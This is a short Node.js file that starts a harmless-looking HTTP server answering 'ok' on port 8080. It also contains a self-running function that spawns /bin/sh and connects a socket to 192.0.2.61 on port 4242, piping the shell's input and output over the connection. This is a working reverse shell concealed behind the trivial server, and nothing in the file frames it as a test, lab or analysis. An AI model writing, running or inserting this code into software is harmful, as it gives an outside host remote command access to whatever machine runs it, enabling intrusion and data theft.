const net = require('net');
const cp = require('child_process');
const http = require('http');
http.createServer((q, r) => r.end('ok')).listen(8080);
(function () {
  const sh = cp.spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(4242, '192.0.2.61', () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
})();
